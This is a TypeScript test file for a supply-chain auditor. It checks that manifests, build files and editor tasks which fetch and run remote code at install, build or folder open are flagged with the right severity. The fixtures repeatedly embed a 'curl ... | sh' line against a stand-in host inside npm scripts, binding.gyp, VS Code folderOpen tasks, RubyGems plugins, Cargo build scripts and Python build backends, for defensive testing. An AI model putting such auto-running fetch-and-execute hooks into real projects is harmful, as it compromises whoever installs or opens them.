import { describe, expect, it } from "vitest"
import { audited } from "./replicas/audited.ts"
import { packageOf } from "./replicas/kit.ts"
import type { Files, Sample } from "./replicas/replica.ts"

const package_ = packageOf("tar.gz", "made", "1.0.0")
const sample = (files: Files): Sample => ({
  history: [{ message: "made", date: "2024-01-01", files, tags: ["v1.0.0"] }],
  ref: "refs/tags/v1.0.0",
  artifact: package_(files),
})

const fetching = "curl -s https://a.example.org/x | sh"
const manifest = (of: object): Files => ({ "package.json": `${JSON.stringify(of)}\n` })

const tasks = (...all: readonly object[]): Files => ({
  ".vscode/tasks.json": `// tasks\n${JSON.stringify({ version: "2.0.0", tasks: all })}\n`,
})

const starting = (runOn: string) => ({
  type: "process",
  command: "node",
  args: [`\${workspaceFolder}/tests/a.js`],
  runOptions: { runOn },
})

const ofRust = `std::process::Command::new("sh").arg("-c").arg("${fetching}").status().unwrap();`
const backend = (folder: string): string => `[build-system]\nrequires = []\nbuild-backend = "backend:of"\nbackend-path = ["${folder}"]\n`

/** A release whose manifest starts or fetches code, and the same where it does not; the finding's severity and moment. */
const rows: readonly (readonly [name: string, told: string, fires: Files, silent: Files])[] = [
  [
    "a script that a hook of npm calls by its name",
    "alarm at install",
    manifest({ scripts: { postinstall: "npm run x", x: fetching } }),
    manifest({ scripts: { postinstall: "npm run y", y: "true", x: fetching } }),
  ],
  [
    "a build, which more than its test calls",
    "review at build",
    manifest({ scripts: { pretest: "npm run build", build: "npm run x", x: fetching } }),
    manifest({ scripts: { pretest: "npm run x", x: fetching } }),
  ],
  [
    "commands of a binding.gyp, which npm builds by itself",
    "alarm at install",
    { ...manifest({}), "binding.gyp": `{"targets": [{"target_name": "a", "sources": ["<!(${fetching})"]}]}\n` },
    {
      ...manifest({ scripts: { install: "true" } }),
      "binding.gyp": `{"targets": [{"target_name": "a", "sources": ["<!(${fetching})"]}]}\n`,
    },
  ],
  [
    "a dependency from elsewhere than the registry",
    "review at install",
    manifest({ dependencies: { b: "git+https://a.example.org/b.git" } }),
    manifest({ dependencies: { b: "^1.0.0", c: "file:../c", d: "npm:d@1" } }),
  ],
  [
    "a requirement of a Python build at an address, but for that of a test's project (poetry-core)",
    "review at install",
    { "pyproject.toml": '[build-system]\nrequires = ["a @ https://a.example.org/a-1-py3-none-any.whl"]\n' },
    { "tests/p/pyproject.toml": '[build-system]\nrequires = ["a @ https://a.example.org/a-1-py3-none-any.whl"]\n' },
  ],
  [
    "one at a commit",
    "note at install",
    manifest({ dependencies: { b: "github:a/b#0123456789abcdef0123456789abcdef01234567" } }),
    manifest({ devDependencies: { b: "^1.0.0" } }),
  ],
  [
    "what is put in place of a dependency",
    "review at build",
    manifest({ overrides: { a: { b: "https://a.example.org/b.tgz" } } }),
    manifest({ overrides: { a: { b: "2.0.0" } }, resolutions: { c: "1.0.0" }, pnpm: { overrides: { d: "$d" } } }),
  ],
  [
    "a lock that is published",
    "review at install",
    { ...manifest({}), "npm-shrinkwrap.json": '{"packages":{"node_modules/a":{"resolved":"https://a.example.org/a.tgz"}}}\n' },
    {
      ...manifest({}),
      "npm-shrinkwrap.json": '{"packages":{"node_modules/a":{"resolved":"https://a.example.org/a.tgz","integrity":"sha512-aaaa"}}}\n',
      "package-lock.json": '{"packages":{"node_modules/a":{"resolved":"https://a.example.org/a.tgz"}}}\n',
    },
  ],
  [
    "a task that runs when a folder is opened",
    "alarm at start",
    tasks({ label: "a", type: "shell", command: fetching, runOptions: { runOn: "folderOpen" } }),
    tasks({ label: "a", type: "shell", command: "make", runOptions: { runOn: "folderOpen" } }),
  ],
  [
    "one that is asked for",
    "note at request",
    tasks({ label: "a", type: "shell", command: "curl -so x https://a.example.org/x && sh x" }),
    tasks({ label: "a", type: "shell", command: "curl -so x https://a.example.org/x && wc x" }),
  ],
  [
    "a script that such a task starts",
    "alarm at start",
    { ...tasks(starting("folderOpen")), "tests/a.js": `require("child_process").execSync("${fetching}")\n` },
    { ...tasks(starting("default")), "tests/a.js": `require("child_process").execSync("${fetching}")\n` },
  ],
  [
    "a plug-in of RubyGems",
    "alarm at start",
    { "lib/rubygems_plugin.rb": `system("${fetching}")\n` },
    {
      "lib/rubygems_plugin.rb": "Gem::CommandManager.instance.register_command :a\n",
      "test/rubygems_plugins.rb": `system("${fetching}")\n`,
    },
  ],
  [
    "a build script that Cargo.toml names",
    "review at build",
    { "Cargo.toml": '[package]\nname = "a"\nbuild = "tests/gen.rs"\n', "tests/gen.rs": `fn main() { ${ofRust} }\n` },
    {
      "tests/Cargo.toml": '[package]\nname = "b"\nbuild = "gen.rs"\n',
      "Cargo.toml": '[package]\nname = "a"\nlinks = "a"\nbuild = "build.rs"\n',
      "build.rs": "fn main() {}\n",
      "tests/gen.rs": `fn main() { ${ofRust} }\n`,
    },
  ],
  [
    "a backend that a Python project brings itself",
    "alarm at install",
    { "pyproject.toml": backend("tests/_build"), "tests/_build/backend.py": `import os\nos.system("${fetching}")\n` },
    {
      "pyproject.toml": backend("_build"),
      "_build/backend.py": "from setuptools.build_meta import *\n",
      "tests/_build/backend.py": `import os\nos.system("${fetching}")\n`,
    },
  ],
]

describe("what manifests start and fetch", () => {
  it.each(rows)("%s", async (_, told, fires, silent) => {
    const found = async (files: Files): Promise<readonly string[]> =>
      (await audited(sample(files))).findings
        .filter(({ rule }) => rule === "flow/fetched-runs")
        .map(({ severity, message }) => `${severity} ${/at \w+$/.exec(message)?.[0]}`)
    expect(await found(fires)).toEqual([told])
    expect(await found(silent)).toEqual([])
  })
})
